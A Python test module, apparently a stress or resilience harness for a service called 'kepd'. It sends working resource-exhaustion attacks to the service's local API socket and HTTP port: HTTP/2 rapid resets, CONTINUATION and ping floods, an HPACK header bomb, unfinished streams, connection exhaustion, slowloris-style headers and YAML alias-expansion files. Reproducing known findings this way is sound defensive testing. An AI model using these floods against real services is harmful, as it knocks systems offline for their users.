# SPDX-License-Identifier: Apache-2.0
"""What a member of the read group can send to the API's socket, and anyone on the node to its HTTP port.

Each attack makes what it can, holds it for a while and gives up; a connection that kepd closed is part of the game.
"""

import itertools
import socket
import struct
import time
from collections.abc import Callable, Iterator
from contextlib import suppress
from itertools import pairwise
from pathlib import Path

DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HOLDS_S = 1.0
ENDPOINTS = "/kepd.v1.ObjectService/List"
# A request for the kind `endpoints`.
ALL_ENDPOINTS = bytes(4) + bytes((11, 2 << 3 | 2, 9)) + b"endpoints"
NODE = "/kepd.v1.NodeService/GetNode"


def frame(kind: int, flags: int, stream: int, body: bytes = b"") -> bytes:
    return struct.pack(">I", len(body))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + body


def field(name: bytes, value: bytes) -> bytes:
    """A literal that no table keeps."""
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


def block(path: str) -> bytes:
    names = [(b":method", b"POST"), (b":scheme", b"http"), (b":path", path.encode()), (b":authority", b"localhost")]
    return b"".join(field(*one) for one in (*names, (b"content-type", b"application/grpc"), (b"te", b"trailers")))


def connect(path: str, settings: bytes = b"") -> socket.socket:
    link = socket.socket(socket.AF_UNIX)
    link.settimeout(0.5)
    link.connect(path)
    link.sendall(PREFACE + frame(SETTINGS, 0, 0, settings))
    return link


def links(path: str, count: int, settings: bytes = b"") -> Iterator[socket.socket]:
    for _ in range(count):
        with suppress(OSError):
            yield connect(path, settings)


def on_each(path: str, count: int, send: Callable[[socket.socket], None], settings: bytes = b"") -> None:
    held = []
    for link in links(path, count, settings):
        held.append(link)
        with suppress(OSError):
            send(link)
    time.sleep(HOLDS_S)
    for link in held:
        link.close()


def unfinished_calls(path: str) -> None:
    """FX-2 as it was found: 4 connections with 40 calls each, every one announced with 16 MiB and never ended."""

    def send(link: socket.socket) -> None:
        streams = range(1, 81, 2)
        for stream in streams:
            link.sendall(frame(HEADERS, END_HEADERS, stream, block(NODE)))
            link.sendall(frame(DATA, 0, stream, b"\0" + struct.pack(">I", (16 << 20) - 1)))
        for _, stream in itertools.product(range(1000), streams):
            link.sendall(frame(DATA, 0, stream, bytes(16_000)))

    on_each(path, 4, send)


def unfinished_calls_of_all_connections(path: str) -> None:
    def send(link: socket.socket) -> None:
        for stream in range(1, 33, 2):
            link.sendall(frame(HEADERS, END_HEADERS, stream, block(NODE)))
            link.sendall(frame(DATA, 0, stream, b"\0" + struct.pack(">I", 65_000) + bytes(16_000)))
            for _ in range(3):
                link.sendall(frame(DATA, 0, stream, bytes(16_000)))

    on_each(path, 16, send)


def unread_answers(path: str) -> None:
    """Large windows, so that answers are made at once, and nothing is read."""
    wide = struct.pack(">HI", 4, 0x7FFFFFFF)

    def send(link: socket.socket) -> None:
        for stream in range(1, 33, 2):
            link.sendall(frame(HEADERS, END_HEADERS, stream, block(ENDPOINTS)))
            link.sendall(frame(DATA, END_STREAM, stream, ALL_ENDPOINTS))

    on_each(path, 16, send, wide)


def continuations(path: str) -> None:
    """A block of headers that never ends."""

    def send(link: socket.socket) -> None:
        link.sendall(frame(HEADERS, 0, 1, block(NODE)))
        for number in range(3000):
            link.sendall(frame(CONTINUATION, 0, 1, field(b"x-%d" % number, b"y" * 100) * 100))

    on_each(path, 4, send)


def header_bombs(path: str) -> None:
    """One entry of the dynamic table, named 16 000 times in a frame: 64 MiB out of 20 KiB."""
    entry = b"\x40\x01x\x7f" + bytes([0xE0 & 0x7F | 0x80, 0x1D]) + b"y" * 3935

    def send(link: socket.socket) -> None:
        for stream in range(1, 2001, 2):
            link.sendall(frame(HEADERS, 0, stream, block(NODE) + entry))
            link.sendall(frame(CONTINUATION, END_HEADERS, stream, b"\xbe" * 16_000))

    on_each(path, 8, send)


def rapid_resets(path: str) -> None:
    def send(link: socket.socket) -> None:
        for stream in range(1, 60_001, 2):
            link.sendall(frame(HEADERS, END_HEADERS, stream, block(NODE)) + frame(RST_STREAM, 0, stream, bytes(4)))

    on_each(path, 2, send)


def pings(path: str) -> None:
    """Each has to be answered, and no answer is read."""

    def send(link: socket.socket) -> None:
        for _ in range(2000):
            link.sendall(frame(PING, 0, 0, bytes(8)) * 100)

    on_each(path, 4, send)


def ten_thousand_connections(path: str) -> None:
    held = []
    for _ in range(10_000):
        link = socket.socket(socket.AF_UNIX)
        link.settimeout(0.5)
        with suppress(OSError):
            link.connect(path)
            held.append(link)
        if len(held) > 500:
            held.pop(0).close()
    time.sleep(HOLDS_S)


CALLERS: tuple[Callable[[str], None], ...] = (
    unfinished_calls, unfinished_calls_of_all_connections, unread_answers, continuations, header_bombs, rapid_resets,
    pings, ten_thousand_connections,
)  # fmt: skip


def http_connections(port: int) -> None:
    """10 000, of which those that stay send a byte of a head now and then and read nothing."""
    held = []
    for number in range(10_000):
        link = socket.socket()
        link.settimeout(0.5)
        with suppress(OSError):
            link.connect(("127.0.0.1", port))
            link.sendall(b"G" if number % 2 else b"GET /metrics HTTP/1.1\r\n\r\n")
            held.append(link)
        if len(held) > 500:
            held.pop(0).close()
    time.sleep(HOLDS_S)


def http_heads(port: int) -> None:
    """Heads without an end."""
    for _ in range(100):
        with suppress(OSError), socket.create_connection(("127.0.0.1", port), timeout=0.5) as link:
            for _ in range(200):
                link.sendall(b"X-" + b"a" * 8000 + b"\r\n")


BROWSERS: tuple[Callable[[int], None], ...] = (http_connections, http_heads)


def expanding_files(manifests: Path) -> None:
    """FX-9: aliases of aliases, below the bound in each of 40 documents. Who writes manifests is trusted, and errs."""
    lines = ["a: &a [x, x, x, x, x, x, x, x, x, x]"]
    lines += [f"{after}: &{after} [{', '.join([f'*{before}'] * 10)}]" for before, after in pairwise("abcd")]
    document = "---\n" + "\n".join(lines) + "\n"
    for number in range(5):
        (manifests / f"expanding-{number}.yaml").write_text(document * 40)
    time.sleep(HOLDS_S)
    for number in range(5):
        (manifests / f"expanding-{number}.yaml").unlink()
